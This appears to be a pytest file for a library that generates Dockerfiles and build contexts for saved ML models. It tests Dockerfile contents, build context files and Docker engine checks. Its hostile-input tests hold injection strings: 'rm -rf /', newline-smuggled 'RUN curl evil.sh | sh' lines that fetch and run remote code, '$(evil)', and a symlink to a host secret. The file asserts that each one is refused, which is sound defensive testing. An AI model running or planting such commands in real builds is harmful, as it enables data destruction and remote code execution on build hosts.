"""generate_dockerfile / build_docker: the build context's content, hostile inputs, the engine check."""

from __future__ import annotations

import json
import os
import pathlib
import stat
import sys

import pandas as pd
import pytest
import yaml
from sklearn.linear_model import LogisticRegression

import workbench
import workbench.sklearn
from workbench import WorkbenchException
from workbench.models import build_docker
from workbench.models._docker import (
    check_base_image,
    check_image_name,
    generate_dockerfile,
    require_docker_engine,
)

pytestmark = pytest.mark.filterwarnings("ignore:.*[Ii]nteger column:UserWarning")

X = pd.DataFrame({"a": [0.0, 1.0, 2.0, 3.0], "b": [1.0, 0.0, 1.0, 0.5]})
SERVE = ["python", "-m", "workbench.serving", "--model-uri", "/opt/ml/model", "--host", "0.0.0.0", "--port", "8080"]
ROOT = pathlib.Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def model_path(tmp_path_factory):
    path = tmp_path_factory.mktemp("docker") / "model"
    workbench.sklearn.save_model(LogisticRegression().fit(X, [0, 0, 1, 1]), path, input_example=X.head(2))
    return path


def instructions(dockerfile: pathlib.Path) -> list[str]:
    """The Dockerfile's instructions, continuation lines joined, comments dropped."""
    text = dockerfile.read_text().replace("\\\n", " ")
    return [line.strip() for line in text.splitlines() if line.strip() and not line.lstrip().startswith("#")]


def entrypoint(dockerfile: pathlib.Path) -> list[str]:
    (line,) = [i for i in instructions(dockerfile) if i.startswith("ENTRYPOINT ")]
    return json.loads(line[len("ENTRYPOINT ") :])


# --------------------------------------------------------------------------- content


def test_context_for_a_model(model_path, tmp_path):
    out = tmp_path / "ctx"
    dockerfile = generate_dockerfile(model_path, out, env_manager="virtualenv", workbench_home=ROOT)
    assert dockerfile == out / "Dockerfile"
    lines = instructions(dockerfile)
    python = yaml.safe_load((model_path / "python_env.yaml").read_text())["python"]
    assert lines[0] == f"FROM python:{python}-slim"
    assert "EXPOSE 8080" in lines
    assert "ENV DISABLE_NGINX=true" in lines
    assert "ENV WORKBENCH_TRUSTED_LOCATIONS=/opt/ml/model" in lines
    assert "RUN python -m venv /opt/workbench/env" in lines
    assert "COPY model_dir/ /opt/ml/model/" in lines
    assert (
        "RUN cd /opt/ml/model && python -m pip install -r /opt/workbench/requirements.txt "
        '-c /opt/workbench/constraints.txt "/opt/workbench/src[serve]"'
    ) in lines
    assert lines.index("COPY model_dir/ /opt/ml/model/") < lines.index("EXPOSE 8080")
    assert "USER workbench" in lines
    assert entrypoint(dockerfile) == SERVE
    # the model, byte for byte
    for path in model_path.rglob("*"):
        if path.is_file():
            assert (out / "model_dir" / path.relative_to(model_path)).read_bytes() == path.read_bytes()
    # requirements travel as files, read from the model
    model_requirements = (model_path / "requirements.txt").read_text().split()
    assert (out / "requirements.txt").read_text().split() == model_requirements
    assert (out / "constraints.txt").read_text() == ""
    build = yaml.safe_load((model_path / "python_env.yaml").read_text())["build_dependencies"]
    assert (out / "build-requirements.txt").read_text().split() == build
    # workbench's own source
    assert (out / "workbench-src" / "pyproject.toml").read_bytes() == (ROOT / "pyproject.toml").read_bytes()
    assert (out / "workbench-src" / "workbench" / "__init__.py").is_file()
    assert not list((out / "workbench-src").rglob("__pycache__"))
    assert f"workbench {workbench.__version__}" in dockerfile.read_text()


def test_python_version_pins_the_base_image(model_path, tmp_path):
    model = tmp_path / "model"
    import shutil

    shutil.copytree(model_path, model)
    env = yaml.safe_load((model / "python_env.yaml").read_text())
    env["python"] = "3.10.14"
    (model / "python_env.yaml").write_text(yaml.safe_dump(env))
    assert instructions(generate_dockerfile(model, tmp_path / "ctx", workbench_home=ROOT))[0] == "FROM python:3.10.14-slim"


@pytest.mark.parametrize(
    "env_manager, expected, pip",
    [
        ("local", None, "python -m pip install"),
        ("virtualenv", "RUN python -m venv /opt/workbench/env", "python -m pip install"),
        ("uv", "RUN python -m pip install uv && uv venv --seed /opt/workbench/env", "uv pip install"),
    ],
)
def test_env_managers(model_path, tmp_path, env_manager, expected, pip):
    lines = instructions(generate_dockerfile(model_path, tmp_path / "ctx", env_manager=env_manager, workbench_home=ROOT))
    venv_lines = [line for line in lines if "/opt/workbench/env" in line]
    assert venv_lines == ([] if expected is None else [expected, 'ENV VIRTUAL_ENV=/opt/workbench/env PATH="/opt/workbench/env/bin:$PATH"'])
    assert any(line.startswith(f"RUN cd /opt/ml/model && {pip} -r") for line in lines)


def test_java_mlflow_and_base_image(model_path, tmp_path):
    import mlflow

    dockerfile = generate_dockerfile(
        model_path, tmp_path / "ctx", install_java=True, install_mlflow=True,
        base_image="registry.example.com:5000/base/python:3.11", workbench_home=ROOT,
    )  # fmt: skip
    lines = instructions(dockerfile)
    assert lines[0] == "FROM registry.example.com:5000/base/python:3.11"
    assert any("apt-get install -y --no-install-recommends default-jre-headless" in line for line in lines)
    assert (tmp_path / "ctx" / "requirements.txt").read_text().splitlines()[-1] == f"mlflow=={mlflow.__version__}"


def test_no_model_serves_a_mounted_one(tmp_path):
    dockerfile = generate_dockerfile(None, tmp_path / "ctx", workbench_home=ROOT)
    lines = instructions(dockerfile)
    assert lines[0] == f"FROM python:{sys.version_info.major}.{sys.version_info.minor}-slim"
    assert not any(line.startswith("COPY model_dir") for line in lines)
    assert "USER workbench" not in lines
    shell, flag, script, dash = entrypoint(dockerfile)
    assert (shell, flag, dash) == ("sh", "-c", "--")
    assert script == "python -m pip install -r /opt/ml/model/requirements.txt && exec " + " ".join(SERVE) + ' "$@"'
    assert (tmp_path / "ctx" / "requirements.txt").read_text() == ""


def test_regenerating_replaces_the_old_context(model_path, tmp_path):
    out = tmp_path / "ctx"
    generate_dockerfile(model_path, out, workbench_home=ROOT)
    (out / "model_dir" / "stale.txt").write_text("old")
    generate_dockerfile(model_path, out, workbench_home=ROOT)
    assert not (out / "model_dir" / "stale.txt").exists()


def test_workbench_from_a_wheel(model_path, tmp_path):
    wheel = tmp_path / "workbench-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"PK fake wheel")
    lines = instructions(generate_dockerfile(model_path, tmp_path / "ctx", workbench_home=wheel))
    assert any(line.endswith('"/opt/workbench/src/workbench-0.1.0-py3-none-any.whl[serve]"') for line in lines)
    assert (tmp_path / "ctx" / "workbench-src" / wheel.name).read_bytes() == b"PK fake wheel"


# --------------------------------------------------------------------------- hostile input


@pytest.mark.parametrize(
    "name",
    ["--rm", "UPPER", "a b", "x;rm -rf /", "img\nRUN evil", "", "a" * 300, "name:", "-x", "../up", 42, None],
)
def test_hostile_image_names_are_refused(name):
    with pytest.raises(WorkbenchException, match="Invalid Docker image name") as info:
        check_image_name(name)
    assert info.value.error_code == "INVALID_PARAMETER_VALUE"


@pytest.mark.parametrize("name", ["mlflow-pyfunc", "team/model:v1.2", "localhost:5000/a/b_c:latest", "a__b"])
def test_good_image_names(name):
    assert check_image_name(name) == name


@pytest.mark.parametrize(
    "image",
    ["python:3.11\nRUN curl evil.sh | sh", "python:3.11 AS x", "$(evil)", "python:3.11-slim\r\nUSER root", ""],
)
def test_hostile_base_images_are_refused(model_path, tmp_path, image):
    with pytest.raises(WorkbenchException, match="Invalid base image"):
        generate_dockerfile(model_path, tmp_path / "ctx", base_image=image, workbench_home=ROOT)
    assert not (tmp_path / "ctx").exists()
    assert check_base_image("python@sha256:" + "a" * 64)


def test_hostile_python_version_is_refused(model_path, tmp_path):
    import shutil

    model = tmp_path / "model"
    shutil.copytree(model_path, model)
    env = yaml.safe_load((model / "python_env.yaml").read_text())
    env["python"] = "3.11-slim\nRUN curl evil.sh | sh\n#"
    (model / "python_env.yaml").write_text(yaml.safe_dump(env))
    with pytest.raises(WorkbenchException, match="Python version in python_env.yaml to look like '3.11.9'"):
        generate_dockerfile(model, tmp_path / "ctx", workbench_home=ROOT)
    assert not (tmp_path / "ctx" / "Dockerfile").exists()


def test_symlink_out_of_the_model_is_refused(model_path, tmp_path):
    import shutil

    model = tmp_path / "model"
    shutil.copytree(model_path, model)
    secret = tmp_path / "secret.txt"
    secret.write_text("host secret")
    os.symlink(secret, model / "innocent.txt")
    with pytest.raises(WorkbenchException, match="'innocent.txt' is a symlink to .*outside the model"):
        generate_dockerfile(model, tmp_path / "ctx", workbench_home=ROOT)
    assert not (tmp_path / "ctx" / "model_dir" / "innocent.txt").exists()


def test_requirement_leaving_the_model_is_refused(model_path, tmp_path):
    import shutil

    model = tmp_path / "model"
    shutil.copytree(model_path, model)
    (tmp_path / "outside.txt").write_text("evil==1\n")
    env = yaml.safe_load((model / "python_env.yaml").read_text())
    env["dependencies"] = ["-r ../outside.txt"]
    (model / "python_env.yaml").write_text(yaml.safe_dump(env))
    with pytest.raises(WorkbenchException):
        generate_dockerfile(model, tmp_path / "ctx", workbench_home=ROOT)


@pytest.mark.parametrize("where", ["inside", "same"])
def test_output_dir_overlapping_the_model_is_refused(model_path, where):
    out = model_path / "ctx" if where == "inside" else model_path
    with pytest.raises(WorkbenchException, match="overlap"):
        generate_dockerfile(model_path, out, workbench_home=ROOT)
    assert not (model_path / "ctx").exists()


def test_bad_arguments(model_path, tmp_path):
    with pytest.raises(WorkbenchException, match="conda") as info:
        generate_dockerfile(model_path, tmp_path / "a", env_manager="conda", workbench_home=ROOT)
    assert info.value.error_code == "NOT_IMPLEMENTED"
    with pytest.raises(WorkbenchException, match="env_manager"):
        generate_dockerfile(model_path, tmp_path / "b", env_manager="pip", workbench_home=ROOT)
    (tmp_path / "file").write_text("x")
    with pytest.raises(WorkbenchException, match="Expected output_dir to be a directory"):
        generate_dockerfile(model_path, tmp_path / "file", workbench_home=ROOT)
    with pytest.raises(WorkbenchException, match="does not exist"):
        generate_dockerfile(model_path, tmp_path / "c", workbench_home=tmp_path / "missing")
    with pytest.raises(WorkbenchException, match="workbench project directory"):
        generate_dockerfile(model_path, tmp_path / "d", workbench_home=tmp_path)
    with pytest.raises(WorkbenchException) as info:
        generate_dockerfile(tmp_path / "no-model", tmp_path / "e", workbench_home=ROOT)
    assert info.value.error_code == "RESOURCE_DOES_NOT_EXIST"


# --------------------------------------------------------------------------- the engine


def fake_docker(directory: pathlib.Path, info_status: int, log: pathlib.Path) -> None:
    """A `docker` script: `info` exits with ``info_status``; `build` records its context."""
    directory.mkdir(exist_ok=True)
    script = directory / "docker"
    script.write_text(
        "#!/bin/sh\n"
        f'echo "$@" >> "{log}"\n'
        'if [ "$1" = info ]; then\n'
        f"  if [ {info_status} -ne 0 ]; then echo 'Cannot connect to the Docker daemon at "
        f"unix:///var/run/docker.sock. Is the docker daemon running?' >&2; exit {info_status}; fi\n"
        "  echo 27.0.1; exit 0\n"
        "fi\n"
        'if [ "$1" = build ]; then\n'
        f'  for last; do :; done; cp "$last/Dockerfile" "{log}.Dockerfile"; ls "$last" > "{log}.context"; exit 0\n'
        "fi\n"
        "exit 3\n"
    )
    script.chmod(script.stat().st_mode | stat.S_IEXEC)


def test_client_without_engine_is_refused_at_once(model_path, tmp_path, monkeypatch):
    log = tmp_path / "docker.log"
    fake_docker(tmp_path / "bin", 1, log)
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    with pytest.raises(WorkbenchException) as info:
        build_docker(model_path, name="my-model", env_manager="local")
    message = info.value.message
    assert info.value.error_code == "RESOURCE_DOES_NOT_EXIST"
    assert "the Docker client is installed but no Docker engine is running" in message
    assert "Cannot connect to the Docker daemon" in message
    assert "generate_dockerfile" in message
    assert log.read_text().splitlines() == ["info --format {{.ServerVersion}}"]  # no build tried


def test_no_docker_client(model_path, tmp_path, monkeypatch):
    (tmp_path / "empty").mkdir()
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    with pytest.raises(WorkbenchException, match="no `docker` command was found on PATH"):
        require_docker_engine()
    with pytest.raises(WorkbenchException, match="generate_dockerfile"):
        build_docker(model_path)


def test_build_with_an_engine_runs_docker_build(model_path, tmp_path, monkeypatch):
    log = tmp_path / "docker.log"
    fake_docker(tmp_path / "bin", 0, log)
    monkeypatch.setenv("PATH", str(tmp_path / "bin") + os.pathsep + os.environ["PATH"])
    monkeypatch.setenv("WORKBENCH_INSTALL_SOURCE", str(ROOT))
    assert require_docker_engine() == "27.0.1"
    build_docker(model_path, name="team/my-model:v1", env_manager="local")
    calls = log.read_text().splitlines()
    assert calls[-1].startswith("build --tag team/my-model:v1 ")
    assert entrypoint(pathlib.Path(f"{log}.Dockerfile")) == SERVE
    assert sorted(pathlib.Path(f"{log}.context").read_text().split()) == [
        "Dockerfile", "build-requirements.txt", "constraints.txt", "model_dir", "requirements.txt", "workbench-src",
    ]  # fmt: skip


def test_build_docker_refuses_a_bad_name_before_anything(model_path, tmp_path, monkeypatch):
    log = tmp_path / "docker.log"
    fake_docker(tmp_path / "bin", 0, log)
    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
    with pytest.raises(WorkbenchException, match="Invalid Docker image name"):
        build_docker(model_path, name="--privileged")
    assert not log.exists()


def test_build_docker_signature_is_mlflows():
    import inspect

    import mlflow.models

    ours = inspect.signature(build_docker).parameters
    # the seed's (MLflow 2.20) order; MLflow 3 dropped enable_mlserver
    assert list(ours) == [
        "model_uri", "name", "env_manager", "mlflow_home", "install_java", "install_mlflow",
        "enable_mlserver", "base_image",
    ]  # fmt: skip
    theirs = inspect.signature(mlflow.models.build_docker).parameters
    assert {k: v.default for k, v in theirs.items()} == {k: ours[k].default for k in theirs}
    assert ours["enable_mlserver"].default is False
